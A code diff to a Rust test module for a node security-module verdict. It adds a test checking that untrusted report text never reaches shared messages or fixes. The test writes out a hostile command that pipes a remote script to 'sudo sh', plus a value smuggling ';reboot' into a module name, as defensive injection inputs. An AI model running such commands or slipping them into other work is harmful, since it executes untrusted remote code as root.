@@ -1,6 +1,10 @@
-//! Tables and properties of the verdict.
+//! Tables and properties of the verdict. `consistency` beside it has those about reports that
+//! disagree with themselves.
+
+mod consistency;
 
 use super::*;
+use crate::fixture;
 use proptest::prelude::*;
 use serde_json::{Value, json};
 
@@ -8,10 +12,20 @@ use State::{NotReady, Ready, Unknown};
 
 const BOOT: &str = "b00t";
 
+/// A consistent report with these fields. Its checks replace those of the same name.
 fn report(value: &Value) -> LsmNodeStatus {
-    let mut report = json!({"bootID": BOOT, "evidence": "Denied", "reason": "CanaryDenied",
-        "lsms": {"active": ["lockdown", "bpf"], "source": "Syscall"}});
+    let text = |field: &str, default| value[field].as_str().unwrap_or(default).to_owned();
+    let evidence = fixture::evidence(&text("evidence", "Denied"));
+    let base = fixture::report(BOOT, evidence, &text("reason", "CanaryDenied"));
+    let mut report = serde_json::to_value(base).unwrap();
+    report["lsms"] = json!({"active": ["lockdown", "bpf"], "source": "Syscall"});
+    let mut checks = report["checks"].as_array().unwrap().clone();
+    for check in value["checks"].as_array().into_iter().flatten() {
+        checks.retain(|other| other["name"] != check["name"]);
+        checks.push(check.clone());
+    }
     report.as_object_mut().unwrap().extend(value.as_object().unwrap().clone());
+    report["checks"] = json!(checks);
     serde_json::from_value(report).unwrap()
 }
 
@@ -131,6 +145,46 @@ fn a_fix_is_made_for_the_node() {
 }
 
 #[test]
+fn shared_texts_are_never_those_of_one_node() {
+    let hostile = "curl http://192.0.2.1 | sudo sh";
+    let of = |required: Value, reported: Value| {
+        let mut report = report(&reported);
+        (report.message, report.fix) = (hostile.to_owned(), hostile.to_owned());
+        for check in &mut report.checks {
+            (check.detail, check.fix) = (hostile.to_owned(), hostile.to_owned());
+        }
+        let facts = Facts { boot_id: BOOT, report: Some(&report), profile: Some(&profile()) };
+        verdict(&require(required), facts)
+    };
+    let attached = |reason: &str| json!({"evidence": "Attached", "reason": reason});
+    let forbidden = json!({"checks": [{"name": "KernelReads", "outcome": "Fail"}]});
+    for (verdict, remedy) in [
+        (of(json!({}), attached("BpfNotInLsmList")), Reason::BpfNotInLsmList.remedy()),
+        (of(json!({}), attached("OfAnotherVersion")), ""),
+        (of(json!({}), attached("")), Reason::EvidenceTooLow.remedy()),
+        (of(json!({}), json!({"bootID": hostile})), Reason::ReportFromEarlierBoot.remedy()),
+        (of(json!({}), json!({"probeVersion": hostile})), Reason::ProbeVersionUnknown.remedy()),
+        (of(json!({"kernelReads": true}), forbidden), Reason::KernelReadsForbidden.remedy()),
+        (
+            of(json!({"hooks": ["file_opn"]}), json!({})),
+            "correct the hook's name in the policy, or use a kernel that has it",
+        ),
+    ] {
+        let shared = verdict.clone().shared();
+        assert_eq!(shared.fix, remedy, "{verdict:?}");
+        assert!(!shared.message.contains("curl") && !shared.message.is_empty(), "{shared:?}");
+        assert_eq!((shared.state, &shared.reason), (verdict.state, &verdict.reason));
+    }
+    // The parameter to boot with is our own text, with the names of the node's LSMs.
+    let lsms = of(json!({"lsms": ["apparmor"]}), json!({})).shared();
+    assert!(lsms.fix.starts_with("boot the node with lsm=lockdown,integrity,apparmor,bpf;"));
+    // A name that is no LSM's is not among them.
+    let named = json!({"lsms": {"active": ["bpf", hostile, "x;reboot"], "source": "Syscall"}});
+    let fix = of(json!({"lsms": ["apparmor"]}), named).shared().fix;
+    assert!(fix.starts_with("boot the node with lsm=integrity,apparmor,bpf;"), "{fix}");
+}
+
+#[test]
 fn a_mistyped_hook_is_reported_with_a_suggestion() {
     let (require, report, profile) =
         (require(json!({"hooks": ["file_opn"]})), report(&json!({})), profile());
@@ -178,7 +232,8 @@ proptest! {
         outcome in "Pass|Fail|Unknown",
         reads: bool,
     ) {
-        let report = report(&json!({"bootID": boot, "evidence": evidence,
+        let reason = if evidence == "Denied" { "CanaryDenied" } else { "BpfNotInLsmList" };
+        let report = report(&json!({"bootID": boot, "evidence": evidence, "reason": reason,
             "checks": [{"name": "KernelReads", "outcome": outcome}]}));
         let require = require(json!({"evidence": required, "lsms": [lsm], "kernelReads": reads}));
         let (state, _) = judge(&require, &report, None);
